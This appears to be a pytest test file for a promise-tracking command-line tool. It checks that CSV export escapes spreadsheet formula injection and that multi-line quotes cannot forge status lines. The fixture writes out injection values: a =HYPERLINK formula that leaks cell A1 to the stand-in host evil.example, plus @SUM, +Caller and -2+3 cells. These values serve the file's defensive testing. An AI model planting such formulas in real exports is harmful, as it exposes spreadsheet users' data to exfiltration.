"""Nothing a user writes can forge what a reader sees: CSV formulas, multi-line quotes."""

from __future__ import annotations

import csv
import io

import pytest

FORGED = "2025-01-20  President X → fulfilled (signed)"
QUOTE = f"We will build the bridge.\n{FORGED}\n\nAnd the road."


@pytest.fixture
def hostile(run) -> None:
    steps = [
        ["add", "bridge", "--title", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
         "--party", "@SUM(A1:A9)", "--on", "2025-01-10"],
        ["log", "--by", "+Caller", "-c", "bridge", "--on", "2025-01-11", "--", "-2+3"],
        ["add", "road", "--title", "A plain road", "--on", "2025-01-10"],
        ["log", QUOTE, "--by", "A Speaker", "-c", "road=agreed", "--on", "2025-01-12"],
    ]  # fmt: skip
    for step in steps:
        result = run(*step)
        assert result.exit_code == 0, result


def test_csv_cells_that_start_like_a_formula_are_neutralised(run, hostile):
    rows = list(csv.DictReader(io.StringIO(run("status", "--format", "csv").stdout)))
    bridge = next(r for r in rows if r["id"] == "bridge")
    assert bridge["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert bridge["parties"] == "'@SUM(A1:A9)"
    assert bridge["last_statement_quote"] == "'-2+3"
    assert bridge["last_statement_by"] == "'+Caller"
    road = next(r for r in rows if r["id"] == "road")
    assert road["title"] == "A plain road" and road["last_statement_quote"] == QUOTE


def test_the_csv_rule_is_in_the_help(run):
    text = " ".join(run("status", "--help").stdout.split())
    assert "a cell a spreadsheet would read as a formula (starting with =, +, -, @" in text


def forged_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if FORGED in line]


def test_status_detail_indents_every_line_of_a_quote(run, hostile):
    out = run("status", "road").stdout
    (line,) = forged_lines(out)
    assert line == "       " + FORGED
    assert "      “We will build the bridge.\n       " + FORGED + "\n\n       And the road.”" in out


def test_history_indents_a_quote_under_its_column(run, hostile):
    out = run("history").stdout
    header = out.splitlines()[0]
    (line,) = forged_lines(out)
    assert line == " " * header.index("WHAT") + FORGED


def test_remind_indents_a_quote_the_same_way(run, hostile):
    out = run("remind", "--now", "2026-06-01").stdout
    (line,) = forged_lines(out)
    start = next(x for x in out.splitlines() if "We will build the bridge." in x)
    assert line == " " * start.index("We will build") + FORGED


def test_a_terminal_width_keeps_the_quote_indented(run, hostile, monkeypatch):
    monkeypatch.setenv("COLUMNS", "60")
    for command in (["status", "road"], ["history"]):
        out = run(*command).stdout
        assert all(not x.startswith("2025-01-20") for x in out.splitlines())
        assert any(x.strip().startswith("2025-01-2") for x in out.splitlines())
